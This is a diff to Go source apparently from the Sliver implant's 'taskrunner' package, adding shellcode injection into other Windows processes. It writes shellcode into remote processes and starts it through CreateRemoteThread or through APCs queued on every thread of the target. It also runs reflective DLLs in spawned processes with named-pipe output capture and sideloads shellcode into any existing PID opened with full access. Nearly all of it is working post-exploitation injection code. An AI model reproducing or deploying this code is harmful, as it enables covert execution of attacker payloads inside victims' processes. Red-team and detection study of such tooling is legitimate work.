@@ -23,6 +23,10 @@ package taskrunner
 import (
 	"bytes"
 	"encoding/binary"
+	"fmt"
+	"io/ioutil"
+	"net"
+	"sync"
 
 	// {{if .Debug}}
 	"log"
@@ -40,6 +44,7 @@ import (
 
 	// {{end}}
 
+	"github.com/bishopfox/sliver/sliver/3rdparty/winio"
 	"github.com/bishopfox/sliver/sliver/syscalls"
 	"golang.org/x/sys/windows"
 )
@@ -70,6 +75,31 @@ func sysAlloc(size int, rwxPages bool) (uintptr, error) {
 
 // injectTask - Injects shellcode into a process handle
 func injectTask(processHandle windows.Handle, data []byte, rwxPages bool) error {
+	remoteAddr, err := writeTask(processHandle, data, rwxPages)
+	if err != nil {
+		return err
+	}
+	// Create the remote thread to where we wrote the shellcode
+	// {{if .Debug}}
+	log.Println("successfully injected data, starting remote thread ....")
+	// {{end}}
+	attr := new(windows.SecurityAttributes)
+	var lpThreadId uint32
+	_, err = syscalls.CreateRemoteThread(processHandle, attr, uint32(0), remoteAddr, 0, 0, &lpThreadId)
+	// {{if .Debug}}
+	log.Printf("createremotethread returned:  err = %v", err)
+	// {{end}}
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("[!] failed to create remote thread")
+		// {{end}}
+		return err
+	}
+	return nil
+}
+
+// writeTask - Copy shellcode into an executable buffer of a process handle
+func writeTask(processHandle windows.Handle, data []byte, rwxPages bool) (uintptr, error) {
 	var (
 		err        error
 		remoteAddr uintptr
@@ -91,7 +121,7 @@ func injectTask(processHandle windows.Handle, data []byte, rwxPages bool) error
 		// {{if .Debug}}
 		log.Println("[!] failed to allocate remote process memory")
 		// {{end}}
-		return err
+		return 0, err
 	}
 
 	// Write the shellcode into the remotely allocated buffer
@@ -104,7 +134,7 @@ func injectTask(processHandle windows.Handle, data []byte, rwxPages bool) error
 		// {{if .Debug}}
 		log.Printf("[!] failed to write data into remote process")
 		// {{end}}
-		return err
+		return 0, err
 	}
 	if !rwxPages {
 		var oldProtect uint32
@@ -114,43 +144,77 @@ func injectTask(processHandle windows.Handle, data []byte, rwxPages bool) error
 			//{{if .Debug}}
 			log.Println("VirtualProtectEx failed:", err)
 			//{{end}}
-			return err
+			return 0, err
 		}
 	}
-	// Create the remote thread to where we wrote the shellcode
-	// {{if .Debug}}
-	log.Println("successfully injected data, starting remote thread ....")
-	// {{end}}
-	attr := new(windows.SecurityAttributes)
-	var lpThreadId uint32
-	_, err = syscalls.CreateRemoteThread(processHandle, attr, uint32(0), remoteAddr, 0, 0, &lpThreadId)
-	// {{if .Debug}}
-	log.Printf("createremotethread returned:  err = %v", err)
-	// {{end}}
+	return remoteAddr, nil
+}
+
+// queueTask - Queue an APC to every thread of the process, the shellcode
+// runs once for each thread that enters an alertable wait state
+func queueTask(processID uint32, remoteAddr uintptr) error {
+	snapshot, err := windows.CreateToolhelp32Snapshot(windows.TH32CS_SNAPTHREAD, 0)
 	if err != nil {
-		// {{if .Debug}}
-		log.Printf("[!] failed to create remote thread")
-		// {{end}}
 		return err
 	}
+	defer windows.CloseHandle(snapshot)
+	entry := windows.ThreadEntry32{}
+	entry.Size = uint32(unsafe.Sizeof(entry))
+	queued := 0
+	for err = windows.Thread32First(snapshot, &entry); err == nil; err = windows.Thread32Next(snapshot, &entry) {
+		if entry.OwnerProcessID != processID {
+			continue
+		}
+		thread, err := windows.OpenThread(windows.THREAD_SET_CONTEXT, false, entry.ThreadID)
+		if err != nil {
+			continue
+		}
+		if syscalls.QueueUserAPC(remoteAddr, thread, 0) == nil {
+			queued++
+		}
+		windows.CloseHandle(thread)
+	}
+	// {{if .Debug}}
+	log.Printf("queued apc on %d thread(s) of pid %d", queued, processID)
+	// {{end}}
+	if queued == 0 {
+		return fmt.Errorf("Failed to queue an APC on any thread of process %d", processID)
+	}
 	return nil
 }
 
 // RermoteTask - Injects Task into a processID using remote threads
 func RemoteTask(processID int, data []byte, rwxPages bool) error {
+	_, err := InjectTask(processID, data, rwxPages, "")
+	return err
+}
+
+// InjectTask - Injects Task into a processID using the given technique,
+// returns the technique that was used
+func InjectTask(processID int, data []byte, rwxPages bool, technique string) (string, error) {
+	if technique == "" {
+		technique = TechniqueRemoteThread
+	}
+	if technique != TechniqueRemoteThread && technique != TechniqueAPC {
+		return technique, fmt.Errorf("Unsupported injection technique %s", technique)
+	}
 	err := refresh()
 	if err != nil {
-		return err
+		return technique, err
 	}
 	processHandle, err := windows.OpenProcess(PROCESS_ALL_ACCESS, false, uint32(processID))
 	if processHandle == 0 {
-		return err
+		return technique, err
 	}
-	err = injectTask(processHandle, data, rwxPages)
-	if err != nil {
-		return err
+	defer windows.CloseHandle(processHandle)
+	if technique == TechniqueAPC {
+		remoteAddr, err := writeTask(processHandle, data, rwxPages)
+		if err != nil {
+			return technique, err
+		}
+		return technique, queueTask(uint32(processID), remoteAddr)
 	}
-	return nil
+	return technique, injectTask(processHandle, data, rwxPages)
 }
 
 func LocalTask(data []byte, rwxPages bool) error {
@@ -270,17 +334,28 @@ func ExecuteAssembly(hostingDll, assembly []byte, process, params string, amsi b
 	return stdoutBuf.String() + stderrBuf.String(), nil
 }
 
-func SpawnDll(procName string, data []byte, offset uint32, args string) (string, error) {
+// SpawnDll - Start procName suspended and run a reflective DLL in it, returns the
+// output and pid of the host process. If pipeName is set anything the DLL writes
+// to \\.\pipe\<pipeName> is captured along with stdout/stderr
+func SpawnDll(procName string, data []byte, offset uint32, args string, pipeName string) (string, int, error) {
 	err := refresh()
 	if err != nil {
-		return "", err
+		return "", 0, err
 	}
 	var stdoutBuff bytes.Buffer
 	var stderrBuff bytes.Buffer
+	var pipeOutput *pipeCapture
+	if pipeName != "" {
+		pipeOutput, err = startPipeCapture(pipeName)
+		if err != nil {
+			return "", 0, err
+		}
+		defer pipeOutput.Close()
+	}
 	// 1 - Start process
 	cmd, err := startProcess(procName, &stdoutBuff, &stderrBuff, true)
 	if err != nil {
-		return "", err
+		return "", 0, err
 	}
 	pid := cmd.Process.Pid
 	// {{if .Debug}}
@@ -288,10 +363,13 @@ func SpawnDll(procName string, data []byte, offset uint32, args string) (string,
 	// {{end}}
 	handle, err := windows.OpenProcess(PROCESS_ALL_ACCESS, true, uint32(pid))
 	if err != nil {
-		return "", err
+		return "", pid, err
 	}
 	defer windows.CloseHandle(handle)
 	dataAddr, err := allocAndWrite(data, handle, uint32(len(data)))
+	if err != nil {
+		return "", pid, err
+	}
 	argAddr := uintptr(0)
 	if len(args) > 0 {
 		//{{if .Debug}}
@@ -300,7 +378,7 @@ func SpawnDll(procName string, data []byte, offset uint32, args string) (string,
 		argsArray := []byte(args)
 		argAddr, err = allocAndWrite(argsArray, handle, uint32(len(argsArray)))
 		if err != nil {
-			return "", err
+			return "", pid, err
 		}
 	}
 	//{{if .Debug}}
@@ -309,7 +387,7 @@ func SpawnDll(procName string, data []byte, offset uint32, args string) (string,
 	startAddr := uintptr(dataAddr) + uintptr(offset)
 	threadHandle, err := protectAndExec(handle, dataAddr, startAddr, argAddr, uint32(len(data)))
 	if err != nil {
-		return "", err
+		return "", pid, err
 	}
 	// {{if .Debug}}
 	log.Printf("[*] RemoteThread started. Waiting for execution to finish.\n")
@@ -317,15 +395,104 @@ func SpawnDll(procName string, data []byte, offset uint32, args string) (string,
 
 	err = waitForCompletion(threadHandle)
 	if err != nil {
-		return "", err
+		return "", pid, err
 	}
 	cmd.Process.Kill()
-	return stdoutBuff.String() + stderrBuff.String(), nil
+	output := stdoutBuff.String() + stderrBuff.String()
+	if pipeOutput != nil {
+		output += pipeOutput.Close()
+	}
+	return output, pid, nil
+}
+
+// pipeCapture - Collects everything written to a named pipe, each client
+// connection is read until it disconnects
+type pipeCapture struct {
+	listener net.Listener
+	output   bytes.Buffer
+	mutex    sync.Mutex
+	wg       sync.WaitGroup
+	done     chan struct{}
+	once     sync.Once
+}
+
+func startPipeCapture(pipeName string) (*pipeCapture, error) {
+	ln, err := winio.ListenPipe("\\\\.\\pipe\\"+pipeName, nil)
+	if err != nil {
+		return nil, err
+	}
+	capture := &pipeCapture{
+		listener: ln,
+		done:     make(chan struct{}),
+	}
+	go func() {
+		defer close(capture.done)
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			capture.wg.Add(1)
+			go func() {
+				defer capture.wg.Done()
+				defer conn.Close()
+				buf, _ := ioutil.ReadAll(conn)
+				capture.mutex.Lock()
+				capture.output.Write(buf)
+				capture.mutex.Unlock()
+			}()
+		}
+	}()
+	return capture, nil
+}
+
+// Close - Stop accepting connections and return the output, once all
+// connected clients are done
+func (p *pipeCapture) Close() string {
+	p.once.Do(func() {
+		p.listener.Close()
+		<-p.done
+		p.wg.Wait()
+	})
+	p.mutex.Lock()
+	defer p.mutex.Unlock()
+	return p.output.String()
 }
 
-//SideLoad - Side load a binary as shellcode and returns its output
-func Sideload(procName string, data []byte, args string) (string, error) {
-	return SpawnDll(procName, data, 0, "")
+//SideLoad - Side load a binary as shellcode and returns its output, if pid
+// is not zero the shellcode runs in that process and an error is returned
+// once it's done, since the output of another process can't be captured
+func Sideload(procName string, pid uint32, data []byte, args string) (string, error) {
+	if pid == 0 {
+		output, _, err := SpawnDll(procName, data, 0, "", "")
+		return output, err
+	}
+	err := refresh()
+	if err != nil {
+		return "", err
+	}
+	handle, err := windows.OpenProcess(PROCESS_ALL_ACCESS, false, pid)
+	if err != nil {
+		return "", err
+	}
+	defer windows.CloseHandle(handle)
+	dataAddr, err := allocAndWrite(data, handle, uint32(len(data)))
+	if err != nil {
+		return "", err
+	}
+	threadHandle, err := protectAndExec(handle, dataAddr, dataAddr, uintptr(0), uint32(len(data)))
+	if err != nil {
+		return "", err
+	}
+	defer windows.CloseHandle(threadHandle)
+	// {{if .Debug}}
+	log.Printf("[*] RemoteThread started in pid %d. Waiting for execution to finish.\n", pid)
+	// {{end}}
+	err = waitForCompletion(threadHandle)
+	if err != nil {
+		return "", err
+	}
+	return "", fmt.Errorf("Sideload into pid %d completed, output of a remote process is not captured", pid)
 }
 
 // Util functions